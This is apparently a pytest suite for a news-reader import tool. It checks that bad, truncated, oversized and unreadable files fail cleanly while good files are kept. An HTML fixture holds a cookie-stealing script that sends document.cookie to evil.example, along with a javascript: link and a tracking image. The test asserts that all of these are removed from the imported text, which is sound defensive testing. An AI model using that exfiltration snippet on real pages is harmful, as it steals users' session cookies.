"""Bad input never crashes an import: one clear line per bad file, the good files kept."""

from __future__ import annotations

import contextlib
import json
import os
import random
import signal
import sqlite3
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from robust_helpers import one_line_errors, page_text, run_measured, run_reader, write_pages

from reader import library as library_module
from reader.cli import main
from reader.library import Library

GOOD_TITLES = {"北京菜篮子价格平稳（第0期第0篇）", "上海地铁新线开通（第0期第1篇）"}
UTF8_PAGE = "城市书房全面开放\n\n本报讯 今年全市新建城市书房三十座，市民可免费借阅图书。\n"

HTML_PAGE = """<!doctype html>
<html><head><title>社区新闻</title>
<style>body { color: red } .ad { display: none }</style>
<script>var stolen = document.cookie; fetch("http://evil.example/x?" + stolen);</script>
<link rel="stylesheet" href="http://evil.example/s.css">
</head><body>
<article><h1>社区食堂开张</h1>
<p>本报讯 社区食堂今天开张，老人就餐可享受优惠。</p>
<img src="http://evil.example/track.png" alt="">
<p><a href="javascript:alert(1)">点击领奖</a>居民纷纷点赞。</p>
<script>document.write("注入的文字")</script>
<noscript>请启用脚本</noscript>
</article></body></html>
"""


def stored_sources(data_dir: Path) -> set[str]:
    conn = sqlite3.connect(data_dir / "library.sqlite3")
    try:
        return {r[0] for r in conn.execute("SELECT path FROM sources")}
    finally:
        conn.close()


def import_json(capsys, *paths: str | Path) -> tuple[int, dict, list[str]]:
    code = main(["import", *map(str, paths), "--json"])
    out, err = capsys.readouterr()
    return code, json.loads(out), one_line_errors(err)


@contextlib.contextmanager
def deadline(seconds: float) -> Iterator[None]:
    """Fail instead of hanging (a blocking read of a pipe would never return)."""

    def expired(_signum, _frame):
        raise TimeoutError(f"still running after {seconds} s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


@pytest.fixture(autouse=True)
def _empty_library(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("READER_NO_SEED", "1")


@pytest.fixture
def good(tmp_path: Path) -> Path:
    page = tmp_path / "good.txt"
    page.write_text(page_text(0), encoding="utf-8")
    return page


BAD_FILES = {
    "random binary": (random.Random(7).randbytes(8192), "not a text file"),
    "png renamed .txt": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200), "PNG image"),
    "jpeg renamed .txt": (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(200), "JPEG image"),
    "empty": (b"", "empty file"),
    "only whitespace": ("\n\u3000\u3000 \n\t\n".encode(), "empty file"),
    "only NUL bytes": (bytes(4096), "empty file"),
}


@pytest.mark.parametrize("kind", list(BAD_FILES))
def test_bad_file_is_one_error_and_the_good_file_is_kept(
    capsys, tmp_path: Path, good: Path, kind: str
) -> None:
    data, reason = BAD_FILES[kind]
    bad = tmp_path / "bad.txt"
    bad.write_bytes(data)
    code, report, lines = import_json(capsys, good, bad)
    assert code == 1
    assert report["errors"] == [{"source": str(bad), "error": report["errors"][0]["error"]}]
    assert reason in report["errors"][0]["error"]
    assert lines == [f"reader: {bad}: {report['errors'][0]['error']}"]
    assert {a["title"] for a in report["articles"]} >= GOOD_TITLES
    assert all(a["source"] == str(good) for a in report["articles"])
    lib = Library.open()
    assert stored_sources(lib.directory) == {str(good)}
    lib.close()


def test_truncated_utf8_keeps_the_text_and_says_what_was_dropped(capsys, tmp_path: Path) -> None:
    page = tmp_path / "cut.txt"
    text = UTF8_PAGE + "\n据介绍，书房全年开放，节假日照常。"
    page.write_bytes(text.encode()[:-2])  # cut inside the final 。
    code = main(["import", str(page), "--json"])
    out, err = capsys.readouterr()
    assert code == 0
    (article,) = json.loads(out)["articles"]
    assert article["title"] == "城市书房全面开放"
    assert article["body"].endswith("节假日照常")
    assert "\ufffd" not in article["body"]
    assert one_line_errors(err) == [
        f"reader: warning: {page}: the file ends in the middle of a character: "
        "dropped 1 trailing byte(s)"
    ]


def test_nul_bytes_inside_text_are_dropped_not_stored(capsys, tmp_path: Path) -> None:
    page = tmp_path / "nul.txt"
    page.write_bytes(UTF8_PAGE.encode().replace("书房".encode(), "书\x00房".encode()))
    code, report, _ = import_json(capsys, page)
    assert code == 0
    (article,) = report["articles"]
    assert article["title"] == "城市书房全面开放"
    assert "\x00" not in article["body"] and "城市书房三十座" in article["body"]


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-be"])
def test_utf16_with_bom_imports(capsys, tmp_path: Path, codec: str) -> None:
    page = tmp_path / "u16.txt"
    bom = b"\xfe\xff" if codec == "utf-16-be" else b""  # "utf-16" writes its own BOM
    page.write_bytes(bom + UTF8_PAGE.encode(codec))
    code, report, _ = import_json(capsys, page)
    assert code == 0
    (article,) = report["articles"]
    assert article["title"] == "城市书房全面开放"
    assert article["encoding"].startswith("utf-16")
    assert "\ufeff" not in article["body"]


def test_html_scripts_styles_and_remote_images_are_not_article_text(capsys, tmp_path: Path) -> None:
    page = tmp_path / "news.html"
    page.write_text(HTML_PAGE, encoding="utf-8")
    code, report, _ = import_json(capsys, page)
    assert code == 0
    text = json.dumps(report["articles"], ensure_ascii=False)
    # The page's article; the line opening with a prize link reads as an advert and goes.
    assert "社区食堂今天开张" in text and "点击领奖" not in text
    for leaked in ("cookie", "fetch(", "document.write", "注入的文字", "color: red",
                   "evil.example", "javascript:", "<img", "<script"):  # fmt: skip
        assert leaked not in text, leaked


def test_missing_paths_are_reported_and_the_rest_imported(
    capsys, tmp_path: Path, good: Path
) -> None:
    missing = tmp_path / "nowhere" / "page.txt"
    code, report, lines = import_json(capsys, missing, good)
    assert code == 1
    assert report["errors"] == [{"source": str(missing), "error": "no such file or folder"}]
    assert len(lines) == 1
    assert {a["title"] for a in report["articles"]} >= GOOD_TITLES


def test_folder_with_unreadable_entries_in_a_real_process(tmp_path: Path) -> None:
    """A broken link, a pipe and a folder named like a file: no hang, no traceback."""
    folder = write_pages(tmp_path / "papers", 2)
    (folder / "broken.txt").symlink_to(tmp_path / "gone.txt")
    os.mkfifo(folder / "pipe.txt")
    os.mkfifo(tmp_path / "lonely_pipe.txt")  # a pipe given by name
    (folder / "folder.txt").mkdir()
    (folder / "folder.txt" / "inside.txt").write_text(page_text(5), encoding="utf-8")
    (folder / "photo.txt").write_bytes(b"\xff\xd8\xff\xe0" + bytes(100))
    started = time.monotonic()
    done = run_reader(
        tmp_path / "lib", "import", str(folder), str(tmp_path / "lonely_pipe.txt"), "--json",
        timeout=30,
    )  # fmt: skip
    assert time.monotonic() - started < 20
    assert done.code == 1
    report = done.json()
    bad = {
        str(folder / "broken.txt"),
        str(folder / "pipe.txt"),
        str(tmp_path / "lonely_pipe.txt"),
        str(folder / "photo.txt"),
    }
    assert {e["source"] for e in report["errors"]} == bad
    lines = one_line_errors(done.err, sorted(bad))
    assert len(lines) == len(bad)
    sources = {a["source"] for a in report["articles"]}
    assert sources == {
        str(folder / "page_0000.txt"),
        str(folder / "page_0001.txt"),
        str(folder / "folder.txt" / "inside.txt"),
    }
    assert stored_sources(tmp_path / "lib") == sources


def test_file_removed_or_replaced_between_listing_and_reading(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = write_pages(tmp_path / "papers", 3)
    gone, swapped = folder / "page_0000.txt", folder / "page_0001.txt"
    real_expand = library_module.expand

    def expand_then_change(path: Path):
        found = real_expand(path)
        gone.unlink()  # deleted by another program after the folder was listed
        swapped.unlink()
        os.mkfifo(swapped)  # and a pipe put in place of a listed file
        return found

    monkeypatch.setattr(library_module, "expand", expand_then_change)
    lib = Library.open()
    with deadline(10):
        report = lib.import_paths([folder])
    assert dict(report.errors) == {
        str(gone): "cannot read: no such file or directory",
        str(swapped): "cannot read: not a regular file (a pipe, device or socket)",
    }
    assert {a.source for a in report.articles} == {str(folder / "page_0002.txt")}
    assert lib.articles.count() == len(report.articles)
    lib.close()


def test_file_over_the_size_limit_is_refused_before_reading(
    capsys, tmp_path: Path, good: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(library_module, "MAX_IMPORT_BYTES", 1024 * 1024)
    huge = tmp_path / "huge.txt"
    huge.write_text(page_text(1) * 2000, encoding="utf-8")
    code, report, lines = import_json(capsys, huge, good)
    assert code == 1
    (error,) = report["errors"]
    assert error["source"] == str(huge) and "too large" in error["error"]
    assert "files up to 1 MB" in error["error"]
    assert len(lines) == 1
    assert {a["source"] for a in report["articles"]} == {str(good)}


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="needs Linux /proc")
def test_single_20mb_line_imports_in_reasonable_time_and_memory(tmp_path: Path) -> None:
    line = "本报讯 今天天气很好，市民出行踊跃，公园里游人如织。"
    big = tmp_path / "big.txt"
    big.write_text("一行到底的超长稿件\n\n" + line * (20_000_000 // len(line.encode())), "utf-8")
    assert big.stat().st_size > 19_000_000
    started = time.monotonic()
    done, peak_kb = run_measured(tmp_path / "lib", "import", str(big))
    elapsed = time.monotonic() - started
    assert done.code == 0, done.err
    assert "Traceback" not in done.err
    assert elapsed < 20, elapsed
    # 491 MB before round two, 335 MB before round three (tests/perf/bench_bounds.py).
    assert peak_kb < 280 * 1024, f"{peak_kb // 1024} MB"
